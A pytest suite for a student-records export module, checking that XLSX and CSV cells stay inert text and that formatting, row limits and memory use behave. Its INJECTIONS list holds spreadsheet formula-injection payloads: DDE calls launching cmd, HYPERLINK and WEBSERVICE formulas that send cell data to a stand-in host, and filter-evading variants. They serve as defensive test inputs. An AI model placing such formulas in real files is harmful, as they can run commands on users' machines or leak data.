"""The files of an export: every cell is a text and comes back as it was, and nothing in them is ever computed."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from collections.abc import Sequence
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

import archive_store.students.export_files as export_files
from archive_store.foundation.errors import ErrorCode, RegistrarError
from archive_store.students.export_columns import COLUMNS, inert
from archive_store.students.export_files import FileType, WorkbookFile, new_file, xml_text

NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What spreadsheets have been made to compute by an export; the last look harmless to a filter of ASCII.
INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    '=HYPERLINK("http://x.test/?"&A1,"点击")',
    "=WEBSERVICE(CONCATENATE(\"http://x.test/\",A1))",
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
]  # fmt: skip


def written(lines: Sequence[Sequence[str]], headers: Sequence[str] = ("甲", "乙")) -> bytes:
    file = WorkbookFile()
    return file.begin(headers, [10] * len(headers)) + file.rows(lines) + file.end()


def read(content: bytes) -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def part(content: bytes, name: str) -> ElementTree.Element:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return ElementTree.fromstring(archive.read(name))  # noqa: S314


def sheet(content: bytes) -> ElementTree.Element:
    return part(content, "xl/worksheets/sheet1.xml")


LEGAL = st.text(
    st.characters(codec="utf-8", exclude_characters="\ufffe\uffff", exclude_categories=("Cc", "Cs")),
    min_size=1,
)


@given(st.lists(st.tuples(LEGAL, LEGAL), min_size=1, max_size=5))
def test_texts_come_back_as_they_were(lines: list[tuple[str, str]]) -> None:
    assert read(written(lines)) == [["甲", "乙"], *[list(line) for line in lines]]


@pytest.mark.parametrize("text", ["00123", "1.50", "110101200001010010", "2011-05-03", "TRUE", "1E5", "#N/A"])
def test_what_looks_like_a_number_a_day_or_an_error_stays_a_text(text: str) -> None:
    assert read(written([[text, "x"]]))[1] == [text, "x"]


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("a\0b\x07c\x1fd", "a\ufffdb\ufffdc\ufffdd"),
        ("\ud800", "\ufffd"),
        ("\ufffe\uffff", "\ufffd\ufffd"),
        ("<&>]]>", "&lt;&amp;&gt;]]&gt;"),
        ("a\r\nb\tc", "a&#13;\nb\tc"),
        ("_x003D_1", "_x005F_x003D_1"),
        ("_x_x003d_", "_x_x005F_x003d_"),
        ("_x3D_", "_x3D_"),
    ],
)
def test_what_xml_cannot_hold_is_shown_and_escapes_are_none(text: str, held: str) -> None:
    assert xml_text(text) == held


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_is_a_formula_in_a_workbook_nor_where_that_is_saved_as_csv(text: str) -> None:
    content = written([[inert(text), inert(text, is_phone=True)]])
    cells = [cell for row in sheet(content).iter(f"{NAMESPACE}row") for cell in row]

    assert {cell.get("t") for cell in cells} == {"inlineStr"}
    assert not list(sheet(content).iter(f"{NAMESPACE}f"))
    saved = io.StringIO()
    csv.writer(saved).writerows(read(content))
    for cell in list(csv.reader(io.StringIO(saved.getvalue())))[1]:
        assert cell.startswith("'")
        assert cell.removeprefix("'") == text


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_is_a_formula_in_csv(text: str) -> None:
    file = new_file(FileType.CSV)
    content = (file.begin(["甲"], [1]) + file.rows([[inert(text)]]) + file.end()).decode("utf-8-sig")

    (_, (cell,)) = list(csv.reader(io.StringIO(content, newline="")))
    assert cell == f"'{text}"


def test_a_text_that_escapes_a_formula_stays_its_letters() -> None:
    """Spreadsheets read `_x003D_` as =, which a check of the first sign does not see."""
    (cell,) = [t.text for t in sheet(written([["_x003D_1+1", ""]])).iter(f"{NAMESPACE}t")][2:]
    assert cell == "_x005F_x003D_1+1"


def test_the_header_is_bold_and_stays_in_view_and_columns_have_widths_and_text_format() -> None:
    file = WorkbookFile()
    columns = [column for column in COLUMNS if column.in_roster]
    content = file.begin([c.header for c in columns], [c.width for c in columns]) + file.rows(
        [["甲"] * len(columns)]
    )
    content += file.end()
    pane = next(sheet(content).iter(f"{NAMESPACE}pane"))
    assert (pane.get("ySplit"), pane.get("state"), pane.get("topLeftCell")) == ("1", "frozen", "A2")
    held = {c.get("min"): int(c.get("width", "0")) for c in sheet(content).iter(f"{NAMESPACE}col")}
    assert held == {str(number): column.width for number, column in enumerate(columns, start=1)}
    assert min(held.values()) >= 10
    styles = part(content, "xl/styles.xml")
    formats = styles.find(f"{NAMESPACE}cellXfs")
    fonts = styles.find(f"{NAMESPACE}fonts")
    assert formats is not None
    assert fonts is not None
    head, body = list(sheet(content).iter(f"{NAMESPACE}row"))
    for row, is_bold in ((head, True), (body, False)):
        (style,) = {int(cell.get("s", "0")) for cell in row}
        assert formats[style].get("numFmtId") == "49"  # text, also where the cell is edited
        font = fonts[int(formats[style].get("fontId", "0"))]
        assert (font.find(f"{NAMESPACE}b") is not None) is is_bold
    assert [cell.get("r") for cell in head][-1] == "AQ1"
    assert next(sheet(content).iter(f"{NAMESPACE}ignoredError")).get("sqref") == "A1:AQ2"


def test_equal_rows_are_equal_bytes_and_no_rows_are_a_whole_file() -> None:
    assert written([["a", "b"]]) == written([["a", "b"]])
    assert read(written([])) == [["甲", "乙"]]


def test_a_workbook_holds_so_many_rows_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_files, "WORKBOOK_ROWS_LIMIT", 3)
    assert len(read(written([["a", "b"]] * 3))) == 4
    file = WorkbookFile()
    file.begin(("甲", "乙"), [10, 10])
    with pytest.raises(RegistrarError) as caught:
        file.rows([["a", "b"]] * 4)
    file.end()
    assert caught.value.code is ErrorCode.TOO_LARGE


def test_memory_does_not_grow_with_the_rows() -> None:
    def peak(pages: int) -> int:
        file = WorkbookFile()
        page = [[f"{row:08}{column}" for column in range(40)] for row in range(100)]
        tracemalloc.start()
        file.begin([str(column) for column in range(40)], [10] * 40)
        for _ in range(pages):
            file.rows(page)
        file.end()
        held = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return held

    peak(2)
    assert peak(50) < peak(5) * 1.1
